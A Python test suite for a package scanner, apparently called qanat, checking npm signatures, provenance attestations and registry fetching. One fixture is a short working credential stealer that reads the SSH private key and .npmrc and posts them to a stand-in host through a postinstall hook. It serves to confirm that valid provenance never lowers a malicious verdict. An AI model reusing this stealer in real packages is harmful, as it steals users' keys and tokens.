"""qanat check and the registry's word: signatures, provenance, and how earlier versions were published; from files and from a
registry.  Documents are made by tests/tools/provenance-make.c with a private authority, log and keys."""
import hashlib
import json
import os
import subprocess

from registry import Registry, env, sri
from tap import check, done, ok, package, put, Run, scratch, tgz_of

MAKE = os.environ["PROVENANCE_MAKE"]
STEALER = """if (!process.env.QANAT_FIXTURE_NEVER_SET) process.exit(0);
const fs = require('fs'), os = require('os'), https = require('https'), path = require('path');
const loot = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'), 'utf8') + fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
https.request({ hostname: 'collect.example.invalid', path: '/in', method: 'POST' }).end(loot);
"""


def sha512(data):
    return hashlib.sha512(data).digest()


def tgz(version, bad=False):
    more = {"repository": "github:owner/thing"}
    if bad:
        more["scripts"] = SCRIPTS
    files = {"package.json": package("thing", version, **more), "index.js": "module.exports = 1;\n"}
    if bad:
        files["setup.js"] = STEALER
    return tgz_of(files)


SCRIPTS = {"postinstall": "node setup.js"}


def make(d, data, earlier):
    os.makedirs(d, exist_ok=True)
    subprocess.run([MAKE, d, "thing", "1.0.1", sha512(data).hex(), "1.0.0", sha512(earlier).hex()], check=True)
    return lambda name: f"{d}/{name}.json"


def version(v, data, attested, person=False, **more):
    dist = {"integrity": sri(data), "tarball": f"https://registry.invalid/thing/-/thing-{v}.tgz"}
    if attested:
        dist["attestations"] = {"url": "https://elsewhere.invalid/x", "provenance": {"predicateType": "https://slsa.dev/provenance/v1"}}
    user = {"name": "ann", "email": "ann@example.invalid"} if person else {"name": "CI", "trustedPublisher": {"id": "github"}}
    return {"name": "thing", "version": v, "dist": dist, "_npmUser": user, "repository": "github:owner/thing", **more}


def packument(*versions):
    return {"name": "thing", "dist-tags": {"latest": versions[-1]["version"]}, "versions": {v["version"]: v for v in versions},
            "time": {v["version"]: f"2025-06-{2 * i + 1:02}T00:00:00.000Z" for i, v in enumerate(versions)}}


def events(target, *args):
    r = Run("events", "--format", "json", target, *args)
    ok(r.code == 0, "events are printed", r)
    return [json.loads(line) for line in r.out.decode().splitlines()[1:]]


def whats(found, kind):
    return sorted(e["attrs"]["what"] for e in found if e["event"] == kind)


FLAWS = {
    "valid": "valid", "expired": "expired", "wrong-subject": "wrong-subject", "wrong-log": "wrong-log", "swapped": "other-package",
    "unlisted": "unlisted", "other-source": "other-source", "publish": "valid",
}


def files(d):
    data, before = tgz("1.0.1"), tgz("1.0.0")
    target = put(f"{d}/thing.tgz", data)
    doc = make(f"{d}/docs", data, before)
    base = ["--keys", doc("keys"), "--trust", doc("trust")]
    for flaw, what in FLAWS.items():
        found = events(target, "--attestations", doc(flaw), *base)
        ok(whats(found, "provenance") == [what], f"an attestation that is {flaw}: {what}", found)
        r = check(target, "--attestations", doc(flaw), *base)
        bad = what in ("expired", "wrong-subject", "wrong-log", "other-package", "other-source")
        ok(r.code == bad, f"{flaw}: {'a finding' if bad else 'no finding'}", r)
    cut = put(f"{d}/cut.json", open(doc("valid")).read()[:2000])
    ok(whats(events(target, "--attestations", cut, *base), "provenance") == ["malformed"], "one that is cut: malformed", "")
    ok(check(target, "--attestations", cut, *base).code == 0, "which alone is no finding", "")
    both = packument(version("1.0.0", before, True), version("1.0.1", data, True))
    p = put(f"{d}/both.json", json.dumps(both))
    for moved, what in (("owner", "provenance-owner-changed"), ("workflow", "provenance-workflow-changed"),
                        ("branch", "provenance-branch-changed"), ("trigger", "provenance-trigger-changed")):
        found = events(target, "--packument", p, "--attestations", doc(f"moved-{moved}"), "--earlier-attestations", doc("earlier"), *base)
        ok(what in whats(found, "meta") and whats(found, "provenance") == ["valid"], f"valid, but with another {moved} than before", found)
    found = events(target, "--packument", p, "--attestations", doc("valid"), "--earlier-attestations", doc("earlier"), *base)
    told = [w for w in whats(found, "meta") if w.startswith(("provenance-", "trusted-", "ci-only"))]
    ok(not told, "built as before: nothing to tell", found)
    by_hand = packument(version("1.0.0", before, True), version("1.0.1", data, False, person=True))
    p = put(f"{d}/hand.json", json.dumps(by_hand))
    ok({"provenance-lost", "trusted-publisher-lost"} <= set(whats(events(target, "--packument", p), "meta")), "provenance that was lost", "")
    ok(check(target, "--packument", p).code == 0, "which alone is no finding", "")
    for name, what in (("signature", "valid"), ("signature-wrong", "wrong")):
        both["versions"]["1.0.1"]["dist"]["signatures"] = [{"keyid": "SHA256:qanat-test", "sig": open(f"{d}/docs/{name}.txt").read()}]
        p = put(f"{d}/{name}.json", json.dumps(both))
        ok(whats(events(target, "--packument", p, *base), "signature") == [what], f"a signature that is {what}", "")
        ok(check(target, "--packument", p, *base).code == (what == "wrong"), f"{what}: the exit status", "")
        ok(whats(events(target, "--packument", p), "signature") == ["unknown-key"], "a key that nobody gave", "")


def never_lowers(d):
    data, before = tgz("1.0.1", bad=True), tgz("1.0.0")
    target = put(f"{d}/bad.tgz", data)
    doc = make(f"{d}/bad", data, before)
    base = ["--keys", doc("keys"), "--trust", doc("trust")]
    p = put(f"{d}/p.json", json.dumps(packument(version("1.0.0", before, True), version("1.0.1", data, True, scripts=SCRIPTS))))
    plain = check(target).json["results"][0]
    r = check(target, "--packument", p, "--attestations", doc("valid"), "--earlier-attestations", doc("earlier"), *base)
    got = r.json["results"][0]
    ok(plain["verdict"] == "malicious" and r.code == 1, "a token thief", r)
    ok((got["verdict"], got["score"]) == (plain["verdict"], plain["score"]), "is one with valid provenance as well", (plain["score"], got["score"]))
    ok([f["rule"] for f in got["findings"]] == [f["rule"] for f in plain["findings"]], "for the same reasons", got)
    r = check(target, "--attestations", doc("swapped"), *base)
    ok(r.code == 1 and "provenance-forged" in [f["rule"] for f in r.json["results"][0]["findings"]], "a swapped one adds a finding", r)


def usage(d):
    target, doc = put(f"{d}/u.tgz", tgz("1.0.1")), put(f"{d}/u.json", "{}")
    for args, word in (([target, "--packument", f"{d}/none.json"], "none.json"), ([target, target, "--packument", doc], "one target"),
                       (["thing", "--attestations", doc], "one target"), ([target, "--trust"], "FILE")):
        r = Run("check", *args)
        ok(r.code == 2 and word in r.err.decode() and r.err.count(b"\n") == 1, f"wrong use is one line and exit 2: {args[1:]}", r)
    for text in ("", "{", "[]", "{}", '{"attestations":7}', "\x00", '{"attestations":[' + "[" * 600 + "]" * 600 + "]}"):
        bad = put(f"{d}/hostile.json", text)
        for option in ("packument", "attestations", "keys", "trust"):
            args = [f"--{option}", bad] + ([] if option in ("packument", "attestations") else ["--attestations", doc])
            r = check(target, *args)
            # What the registry says of the package cannot be read: then it is not clean.
            code = 3 if option == "packument" and text else 0
            ok(r.code == code, f"a hostile {option} ({text[:10]!r}) is told, not fatal", r)


def online(d):
    data, before = tgz("1.0.1"), tgz("1.0.0")
    doc = make(f"{d}/docs", data, before)
    reg = Registry()
    reg.packages["thing"] = {"1.0.0": before, "1.0.1": data}
    whole = packument(version("1.0.0", before, True), version("1.0.1", data, True))
    for v in whole["versions"].values():
        v["dist"]["tarball"] = f"{reg.url}thing/-/thing-{v['version']}.tgz"
    whole["versions"]["1.0.1"]["dist"]["signatures"] = [{"keyid": "SHA256:qanat-test", "sig": open(f"{d}/docs/signature.txt").read()}]
    reg.documents = {"thing": whole}
    e = env(reg, d)

    def serve(attestations, keys="keys"):
        reg.hits.clear()
        reg.documents["-/npm/v1/attestations/thing@1.0.1"] = attestations and json.load(open(doc(attestations)))
        reg.documents["-/npm/v1/attestations/thing@1.0.0"] = json.load(open(doc("earlier")))
        reg.documents["-/npm/v1/keys"] = keys and json.load(open(doc(keys)))
        r = check("thing", "--explain", "--trust", doc("trust"), env={**e, "npm_config_cache": f"{d}/cache-{attestations}-{keys}"})
        return r, [f["rule"] for f in r.json["results"][0]["findings"]]

    r, rules = serve("valid")
    ok(r.code == 0 and rules == [], "a package with signature and provenance, all fetched", r)
    asked = [h for h in reg.hits if "/npm/v1/" in h]
    ok(len(asked) == 3 and asked[-1].endswith("/keys"), "attestations, earlier ones and keys were asked for once", reg.hits)
    r, rules = serve("swapped")
    ok(r.code == 1 and rules == ["provenance-forged"], "the attestation of another package", r)
    r, rules = serve("moved-owner")
    ok(r.code == 1 and "provenance-elsewhere" in rules, "built from another repository than before", r)
    r, rules = serve(None)
    ok(r.code == 0 and "provenance-unproven" in rules, "attestations that cannot be had are told, and not fatal", r)
    r, rules = serve("valid", keys=None)
    ok(r.code == 0 and "signature-unproven" in rules, "so are keys", r)
    r = check("--offline", "thing", env=e)
    ok(r.code == 3, "offline, with nothing cached: unknown as before", r)
    many = [f"p{i}" for i in range(60)]
    for name in many:
        reg.packages[name] = {"1.0.0": tgz_of({"package.json": package(name), "index.js": ""})}
        reg.fields[name] = {}
    r = check(*many, env={**e, "npm_config_cache": f"{d}/cache-many"})
    ok(r.code == 0 and len(r.json["results"]) == 60, "many packages at once", r)


with scratch() as d:
    for f in (files, never_lowers, usage, online):
        os.makedirs(f"{d}/{f.__name__}")
        f(f"{d}/{f.__name__}")
done()
